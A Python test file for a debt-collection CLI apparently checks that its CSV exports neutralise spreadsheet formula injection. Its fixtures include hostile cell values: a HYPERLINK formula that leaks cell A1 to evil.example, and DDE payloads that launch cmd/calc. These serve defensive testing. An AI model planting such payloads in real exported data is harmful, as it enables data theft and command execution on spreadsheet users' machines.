"""CSV exports never hand a spreadsheet a formula: cells starting with = + - @ TAB CR are
prefixed with `'`, real numbers excepted. Checked on the writer for all inputs (hypothesis)
and end to end on every CSV the CLI writes, with hostile names and references."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from recouvre_tui.cli import main
from recouvre_tui.reports import safe_csv
from recouvre_tui.reports.safe_csv import FORMULA_TRIGGERS, is_number
from recouvre_tui.services.lead import KpiRow, kpis_csv
from stores import new_db

NOW = "2026-11-23T10:00"
HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Dupont")'
HOSTILE_AGENT_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_safe(text: str) -> None:
    for row in _cells(text):
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS) or is_number(cell), cell


cell_text = st.one_of(
    st.text(),
    st.sampled_from(["=1+1", "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "\t=1", "\r=1", "-12.50", "+3", "-1,5", "-"]),
    st.builds(lambda t, s: t + s, st.sampled_from(FORMULA_TRIGGERS), st.text()),
)


@given(st.lists(st.lists(cell_text, min_size=1, max_size=5), max_size=5))
def test_no_written_cell_starts_a_formula(rows: list[list[str]]) -> None:
    buf = io.StringIO()
    w = safe_csv.writer(buf, lineterminator="\n")
    w.writerows(rows)
    _assert_safe(buf.getvalue())
    # Nothing else changes: each cell is the value, or `'` + the value.
    back = _cells(buf.getvalue())
    assert len(back) == len(rows)
    for written, original in zip(back, rows, strict=True):
        for got, value in zip(written, original, strict=True):
            assert got in (value, "'" + value)


def test_numbers_stay_numbers_and_formulas_are_neutralised() -> None:
    buf = io.StringIO()
    safe_csv.writer(buf, lineterminator="\n").writerow(
        ["-12.50", "+3", "-1,5e3", -7, 2.5, "=1+1", "-2+3", "@SUM(A1)", "+cmd|x", "\t=1", "-", "a=b"]
    )
    assert _cells(buf.getvalue()) == [
        ["-12.50", "+3", "-1,5e3", "-7", "2.5", "'=1+1", "'-2+3", "'@SUM(A1)", "'+cmd|x", "'\t=1", "'-", "a=b"]
    ]


@given(st.lists(st.tuples(cell_text, cell_text, st.integers(0, 10_000)), max_size=4))
def test_kpis_csv_is_safe(agents: list[tuple[str, str, int]]) -> None:
    rows = [KpiRow("2026-W47", login, name, calls=calls) for login, name, calls in agents]
    _assert_safe(kpis_csv(rows))


def _db(tmp_path: Path) -> tuple[CliRunner, list[str]]:
    runner = CliRunner()
    base = ["--db", str(new_db(tmp_path, "t.db"))]
    assert runner.invoke(main, [*base, "init"]).exit_code == 0
    result = runner.invoke(main, [*base, "agents", "add", "alice", "--name", HOSTILE_AGENT_NAME])
    assert result.exit_code == 0, result.output
    files = {
        "debtors": f'debtor_ref;name;segment;postcode;phone\n-2+3;"{HOSTILE_NAME.replace(chr(34), 2 * chr(34))}";'
        "B2C;75011;0612345678\n",
        "invoices": "debtor_ref;invoice_ref;issue_date;due_date;amount\n-2+3;@F1;01/08/2026;01/09/2026;500,00\n",
        "events": "debtor_ref;at;channel;direction;outcome;agent\n"
        "-2+3;2026-10-20 10:00;call;out;no_answer;alice\n"
        "-2+3;2026-10-27 10:00;call;out;no_answer;alice\n"
        "-2+3;2026-11-03 10:00;call;out;voicemail;alice\n"
        "-2+3;2026-11-17 10:00;call;out;no_answer;alice\n",
        "promises": "debtor_ref;promise_ref;created_at;due_date;amount\n-2+3;+P1;2026-10-01 10:00;2026-10-10;100,00\n",
    }
    for kind, text in files.items():
        path = tmp_path / f"{kind}.csv"
        path.write_text(text, encoding="utf-8")
        result = runner.invoke(main, [*base, "import", kind, str(path), "--now", NOW])
        assert result.exit_code == 0, result.output
    return runner, base


def test_cli_csv_exports_neutralise_hostile_data(tmp_path: Path) -> None:
    runner, base = _db(tmp_path)
    wear = runner.invoke(main, [*base, "report", "wear", "--week", "2026-W47", "--format", "csv", "--now", NOW])
    assert wear.exit_code == 0, wear.output
    [header, row] = _cells(wear.stdout)
    assert row[header.index("debtor_ref")] == "'-2+3"
    assert row[header.index("name")] == "'" + HOSTILE_NAME
    _assert_safe(wear.stdout)

    promises = runner.invoke(main, [*base, "promises", "--format", "csv", "--now", NOW])
    assert promises.exit_code == 0, promises.output
    [header, row] = _cells(promises.stdout)
    assert (row[header.index("promise_ref")], row[header.index("debtor_ref")]) == ("'+P1", "'-2+3")
    _assert_safe(promises.stdout)

    kpis = runner.invoke(main, [*base, "kpis", "--week", "2026-W47", "--format", "csv", "--now", NOW])
    assert kpis.exit_code == 0, kpis.output
    [header, row] = _cells(kpis.stdout)
    assert row[header.index("name")] == "'" + HOSTILE_AGENT_NAME
    _assert_safe(kpis.stdout)
